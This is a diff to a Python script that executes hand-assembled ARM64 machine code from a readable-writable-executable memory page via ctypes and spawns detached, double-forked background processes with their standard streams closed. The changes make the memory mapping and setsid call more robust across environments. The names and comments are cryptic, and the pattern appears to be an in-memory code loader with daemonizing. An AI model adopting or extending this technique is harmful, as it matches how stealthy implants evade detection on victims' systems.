@@ -157,7 +157,8 @@ def hop(path):
         words += [0xB7F80000 | (-len(words) & 0x3FFF) << 5, 0xD2800BA8, 0xD2800000, 0xD4000001]
         words[0] |= len(words) << 5
         code = struct.pack(f"<{len(words)}IQ", *words, at)
-    held = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    rights = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
+    held = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=rights)
     held.write(code)
     ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(held)))()
 def fork_on(path):
@@ -177,7 +178,10 @@ def begin(way, path):
         signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # what ends is gone at once
     for n in range(3):
         if os.fork() == 0:
-            os.setsid()
+            try:
+                os.setsid()
+            except OSError:  # some walls keep groups together
+                pass
             for fd in range(3):
                 os.close(fd)
             if way == "beyond" and os.fork():
